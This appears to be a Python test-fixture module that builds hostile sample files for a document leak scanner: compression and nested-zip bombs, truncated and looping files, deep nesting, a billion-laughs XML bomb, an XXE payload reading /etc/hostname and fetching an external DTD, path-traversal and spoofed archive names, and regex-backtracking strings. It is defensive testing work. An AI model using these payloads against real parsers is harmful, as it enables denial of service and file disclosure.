"""`hostile/`: bombs, lies, loops and depths. Each is accounted for in time; none hides a leak."""

import bz2
import gzip
import io
import json
import lzma
import struct
import zipfile
from collections.abc import Iterator
from typing import Final

from findings import Reason
from sample_data import letters, office, pages
from sample_data.bent_files import (
    endless_dicom,
    looping_ole,
    looping_pdf,
    lying_zip,
    nested_mail,
    overlapping_zip,
    vast_png,
)
from sample_data.databases import practice
from sample_data.persons import CAST, GENTLEMEN
from sample_data.sample import Sample, leak, still_found, survived, unread
from sample_data.zipped import replaced, zipped
from tests.makers import dicom

_BOMB_BYTES: Final = 96 << 20
_ENTITIES: Final = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
_LAUGHS: Final = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha">{_ENTITIES}]><r>&l10;</r>'
_OUTSIDE: Final = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">'
    '<!ENTITY % y SYSTEM "http://192.0.2.1/y.dtd"> %y;]><r>&x;</r>'
)

_TINY: Final = {
    "empty.txt": b"",
    "one_byte": b"\0",
    "only_mark.txt": b"\xef\xbb\xbf",
    "zeros.dat": bytes(5_000),
    "odd_utf16.txt": b"\xff\xfea\0b\0c",
}
_ODD_NAMES: Final = (
    "../../../../tmp/dehors.txt",
    "/etc/absolu.txt",
    "ligne\nneuve.txt",
    "c\x1b[31mrouge.txt",
    "C:\\Windows\\x.txt",
    "a" * 3_000 + ".txt",
    "\u202etxt.exe",
    "<b>.txt",
)


def samples() -> Iterator[Sample]:
    """All of them."""
    yield from _bombs()
    yield from _cut()
    yield from _bent()
    yield from _deep()
    yield from _entities()
    yield from _long_texts()
    yield from _odd_names()
    for name, data in _TINY.items():
        yield survived(f"hostile/{name}", data)
    last = letters.short_leak(GENTLEMEN[14])
    yield leak("hostile/zz_after_all.txt", last.encode())


def _bombs() -> Iterator[Sample]:
    text = b"rien\n" * (_BOMB_BYTES // 5)
    spent = Reason.ARCHIVE_BUDGET
    yield unread("hostile/bomb.zip", zipped({"rien.txt": text}), spent)
    yield unread("hostile/bomb.txt.bz2", bz2.compress(text), spent)
    yield unread("hostile/bomb.txt.xz", lzma.compress(text), spent)
    inner = zipped({f"{n}.zip": zipped({"rien.txt": text[: 12 << 20]}) for n in range(3)})
    many = zipped({f"{n}.zip": inner for n in range(4)})
    yield unread("hostile/bomb_of_zips.zip", many, spent, Reason.ARCHIVE_DEPTH)
    yield unread("hostile/overlapping.zip", overlapping_zip(300, 1 << 20), spent, Reason.CORRUPT)
    deep = b"fin\n"
    for _ in range(30):
        deep = gzip.compress(deep, mtime=0)
    yield unread("hostile/gzip_30_deep.gz", deep, Reason.ARCHIVE_DEPTH)
    vast = replaced(
        office.word("rien"), word__document_xml=b"<w:document>" + bytes([32]) * _BOMB_BYTES
    )
    yield unread("hostile/bomb.docx", vast)
    yield survived("hostile/vast_picture.png", vast_png())


def _cut() -> Iterator[Sample]:
    """Files that end too early. What they held is harmless, but they were not read whole."""
    said = "Réunion du 9 mars : ordre du jour, budget, questions diverses.\n" * 200
    for name, data in (
        ("cut.docx", office.word(said)),
        ("cut.xlsx", office.workbook([["Ordre", number] for number in range(200)])),
        ("cut.odt", office.open_text(said)),
        ("cut.txt.gz", gzip.compress(said.encode(), mtime=0)),
        ("cut.doc", office.old_word(said)),
        ("cut.sqlite", practice(CAST[:3])),
        ("cut.dcm", dicom.image(CAST[0].as_maker())[:200]),
    ):
        yield unread(f"hostile/{name}", data[: len(data) * 3 // 5])
    yield survived("hostile/cut.pdf", pages.pdf(said)[:900])
    yield survived("hostile/only_magic.pdf", b"%PDF-1.7\n")
    yield survived("hostile/only_magic.docx", b"PK\x03\x04")


def _bent() -> Iterator[Sample]:
    yield survived("hostile/lying_sizes.zip", lying_zip())
    yield survived("hostile/page_loop.pdf", looping_pdf())
    yield survived("hostile/sector_loop.doc", looping_ole())
    yield survived("hostile/endless_sequences.dcm", endless_dicom())
    said = letters.short_leak(GENTLEMEN[15])
    book = office.workbook([["Note"], [said]])
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    lie = sheet.replace(b'ref="A1:A2"', b'ref="A1:XFD1048576"')
    assert lie != sheet
    whole = replaced(book, xl__worksheets__sheet1_xml=lie)
    yield still_found("hostile/lying_dimension.xlsx", whole)
    yield still_found("hostile/junk_before.pdf", b"\0junk\n" * 20 + pages.pdf(said))


def _deep() -> Iterator[Sample]:
    depth = 10_000
    yield survived("hostile/deep.json", b"[" * depth + b"]" * depth)
    yield survived("hostile/deep_objects.json", b'{"a":' * depth + b"1" + b"}" * depth)
    yield survived("hostile/deep.xml", b"<a>" * depth + b"</a>" * depth)
    yield survived("hostile/deep.html", b"<html>" + b"<div>" * depth)
    yield survived("hostile/deep.rtf", b"{\\rtf1" + b"{" * depth + b"x" + b"}" * depth + b"}")
    yield survived("hostile/deep_mail.eml", nested_mail(300))


def _entities() -> Iterator[Sample]:
    for name, text in (("laughs.xml", _LAUGHS), ("outside.xml", _OUTSIDE)):
        yield survived(f"hostile/{name}", text.encode())
        package = replaced(office.word("rien"), word__document_xml=text.encode())
        yield survived(f"hostile/{name.replace('.xml', '.docx')}", package)


def _long_texts() -> Iterator[Sample]:
    said = letters.short_leak(GENTLEMEN[0])
    words = "mot " * 55_000
    yield still_found("hostile/long_line.txt", f"{words}\n{said}\n".encode())
    yield still_found(
        "hostile/leak_in_long_line.txt", f"{words[:60_000]}{said} {words[:60_000]}".encode()
    )
    wide = ";".join(f"c{n}" for n in range(6_000))
    yield still_found("hostile/wide_then_leak.csv", f"{wide}\n{wide}\n{said}\n".encode())
    quoted = f'a;b;c\n1;"jamais refermé;3\n4;5;6\n{said}\n'
    yield still_found("hostile/open_quote.csv", quoted.encode())
    broken = (
        said.encode("cp1252")
        + b"\xff\xfe\x80\n"
        + "Réunion du 9 mars déplacée à la rentrée.\n".encode() * 20
    )
    yield still_found("hostile/two_encodings.txt", broken)
    for name, text in _slow_for_patterns():
        yield survived(f"hostile/pattern_{name}.txt", text.encode())
    numbers = json.dumps({"n": "9" * 40_000})
    yield survived(
        "hostile/long_number.json", numbers.replace('"9', "9").replace('9"', "9").encode()
    )


def _slow_for_patterns() -> Iterator[tuple[str, str]]:
    """Texts at which a careless expression backtracks for ever."""
    for name, unit in (
        ("digits", "1"), ("spaced_digits", "1 "), ("labels", "Nom : "), ("born", "né le "),
        ("capitals", "A-"), ("mail", "a@"), ("dots", "."), ("blanks", "\t "), ("titles", "Mme "),
        ("ipp", "IPP : "), ("certificate", "HC1:"), ("2d", "DC04FR00"), ("streets", "12 rue de "),
    ):  # fmt: skip
        yield name, unit * (30_000 // len(unit))


def _odd_names() -> Iterator[Sample]:
    """Names inside archives, where git does not mind them."""
    said = letters.short_leak(GENTLEMEN[1]).encode()
    named = zipped([(name, said) for name in _ODD_NAMES])
    yield still_found("hostile/odd_names.zip", named)
    twice = _duplicated("double.txt", b"rien\n", said)
    yield still_found("hostile/same_name_twice.zip", twice)
    crowd = zipped([(f"{n}.txt", b"rien\n") for n in range(600)])
    yield survived("hostile/crowd.zip", crowd)
    yield survived(
        "hostile/zip_comment.zip", zipped({"a.txt": b"rien\n"})[:-2] + struct.pack("<H", 999)
    )


def _duplicated(name: str, *contents: bytes) -> bytes:
    """A zip in which one name comes twice, which `zipfile` warns of."""
    other = name[:-1] + "_"
    whole = zipped([(name, contents[0]), (other, contents[1])])
    return whole.replace(other.encode(), name.encode())
